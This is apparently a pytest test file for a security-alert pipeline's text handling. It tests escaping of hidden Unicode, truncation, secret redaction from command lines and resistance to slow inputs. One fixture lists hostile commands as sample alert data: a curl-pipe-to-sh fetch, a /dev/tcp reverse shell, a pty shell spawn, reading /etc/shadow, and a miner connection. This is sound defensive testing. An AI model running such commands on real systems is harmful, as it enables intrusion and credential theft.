"""Hostile text: nothing unseen, no secrets, in linear time."""

import time
import unicodedata

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from pipeline.sinks.text import REDACTED, cut, redact, redact_command, redact_text, visible

HIDDEN = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
SECRET = "hunter2secret"


@given(st.text(st.characters(), max_size=200))
def test_visible_text_has_no_hidden_character(text: str) -> None:
    shown = visible(text)

    assert not [char for char in shown if unicodedata.category(char) in HIDDEN]
    assert not {char for char in shown if unicodedata.category(char) == "Zs"} - {" "}


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain /usr/bin/node --x", "plain /usr/bin/node --x"),
        ("grün 日本語 😀", "grün 日本語 😀"),
        ("\x1b[31mred", "\\u{1b}[31mred"),
        ("\u202egpj.exe", "\\u{202e}gpj.exe"),
        ("a\u200bb\u2060c\ufeffd\u00ade", "a\\u{200b}b\\u{2060}c\\u{feff}d\\u{ad}e"),
        ("tag\U000e0041", "tag\\u{e0041}"),
        ("line\nfeed\r\t", "line\\nfeed\\r\\t"),
        ("filler\u3164\u2800", "filler\\u{3164}\\u{2800}"),
        ("wide\u3000\u00a0", "wide\\u{3000}\\u{a0}"),
        ("z" + "\u0300" * 5, "z\u0300\u0300" + "\\u{300}" * 3),
        ("\x9b31m\x7f", "\\u{9b}31m\\u{7f}"),
        ("\udcff", "\\u{dcff}"),
        ("\ufe0f", "\\u{fe0f}"),
    ],
)
def test_what_cannot_be_seen_is_written_out(text: str, shown: str) -> None:
    assert shown == visible(text)


@given(st.text(max_size=300), st.integers(0, 100))
def test_a_cut_text_keeps_its_limit_and_says_what_is_missing(text: str, limit: int) -> None:
    short = cut(text, limit)

    assert len(short) <= limit or short == text
    assert short == text or "more ..." in short or limit < 30


@pytest.mark.parametrize(
    "argv",
    [
        ["app", f"--password={SECRET}"],
        ["app", "--password", SECRET],
        ["app", f"--db.password={SECRET}"],
        ["app", "--api-key", SECRET],
        ["mysql", "-uroot", f"-p{SECRET}", "shop"],
        ["/usr/bin/mysqldump", f"-p{SECRET}"],
        ["sshpass", "-p", SECRET, "ssh", "host"],
        ["redis-cli", "-a", SECRET],
        ["curl", "-u", f"ana:{SECRET}", "https://x"],
        ["curl", "--user", f"ana:{SECRET}"],
        ["curl", "-H", f"Authorization: Bearer {SECRET}"],
        ["curl", "-H", f"authorization: {SECRET}"],
        ["curl", "-H", f"X-Api-Key: {SECRET}"],
        ["curl", "-d", f'{{"password": "{SECRET} two"}}'],
        ["psql", f"postgres://ana:{SECRET}@db/shop"],
        ["git", "clone", f"https://{SECRET}{SECRET}@github.com/x"],
        ["env", f"DB_PASSWORD={SECRET}", "app"],
        ["env", f"PGPASSWORD={SECRET}", "psql"],
        ["env", f"GITHUB_TOKEN={SECRET}"],
        ["env", f"AWS_SECRET_ACCESS_KEY={SECRET}"],
        ["sh", "-c", f"MYSQL_ROOT_PASSWORD={SECRET} mysqld; echo ok"],
        ["sh", "-c", f"export TOKEN='{SECRET}'"],
        ["sh", "-c", f'curl -H "Authorization: Basic {SECRET}" x'],
        ["java", f"-Djavax.net.ssl.trustStorePassword={SECRET}"],
        ["docker", "login", "-u", "ana", "-p", SECRET],
        ["x", f"xoxb-123456789012-{SECRET}"],
        ["x", f"ghp_{SECRET}{SECRET}"],
        ["x", f"glpat-{SECRET}{SECRET}"],
        ["x", f"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.{SECRET}"],
        ["x", f"https://hooks.slack.com/services/T0/B0/{SECRET}"],
        ["x", f"-----BEGIN RSA PRIVATE KEY-----\n{SECRET}\n-----END RSA PRIVATE KEY-----"],
    ],
    ids=lambda argv: " ".join(argv)[:40].replace("\n", " "),
)
def test_a_secret_does_not_leave_and_its_absence_shows(argv: list[str]) -> None:
    words, count = redact(argv)

    assert SECRET not in " ".join(words) and count >= 1
    assert REDACTED in " ".join(words)
    assert argv[0] == words[0]


def test_aws_keys_are_secrets() -> None:
    assert (("aws", REDACTED), 1) == redact(["aws", "AKIAIOSFODNN7EXAMPLE"])


@pytest.mark.parametrize(
    "argv",
    [
        ["node", "--port", "8080", "-p8080", "server.js"],
        ["docker", "run", "-p", "80:80", "nginx"],
        ["ssh", "-p", "22", "host"],
        ["app", "--password-file", "/run/secrets/x", "--token-ttl=5"],
        ["/tmp/.x/kdevtmpfsi", "-o", "pool.example:3333"],
        ["sh", "-c", "curl http://203.0.113.7/x | sh"],
        ["cat", "/etc/passwd", "/etc/shadow"],
        ["python3", "-c", "import pty; pty.spawn('/bin/sh')"],
        ["bash", "-i", ">&", "/dev/tcp/203.0.113.7/4444"],
        ["wget", "--token"],
        ["monkey", "key=1", "bypass=2"],
    ],
    ids=" ".join,
)
def test_what_is_no_secret_stays_word_for_word(argv: list[str]) -> None:
    """An alert whose command is hidden helps nobody."""
    assert (tuple(argv), 0) == redact(argv)


def test_a_secret_in_the_process_tree_goes_too() -> None:
    assert ("mysql '-p[redacted]' db", 1) == redact_command(f"mysql -p{SECRET} db")
    assert SECRET not in redact_command(f"sh -c 'TOKEN={SECRET}")[0]


@pytest.mark.parametrize(
    "bad",
    ["a", "-", "token", "pass_", "x-key-", "://", "a.", "api_", "Bearer ", "authorization: ", "eyJ", 'a="', "SG.", "a:",
     "://a:@", "-----BEGIN PRIVATE KEY-----", "'", "\\", "AKIA", "password=", "cookie:"],
)  # fmt: skip
def test_no_argument_can_keep_the_redaction_busy(bad: str) -> None:
    """Whoever writes argv must not choose how long an alert takes: 200 kB of any pattern is done in a blink."""
    text = bad * (200_000 // len(bad))

    before = time.process_time()
    redact_text(text)
    redact(["x", text, f"--{text}"])
    redact_command(text)

    assert time.process_time() - before < 2.0


@hypothesis_settings(deadline=None)
@given(st.lists(st.text(max_size=60), max_size=10))
def test_redacting_twice_is_redacting_once(argv: list[str]) -> None:
    once, _ = redact(argv)

    assert len(argv) == len(once)
    for word in once:
        assert redact_text(redact_text(word)[0])[0] == redact_text(word)[0]
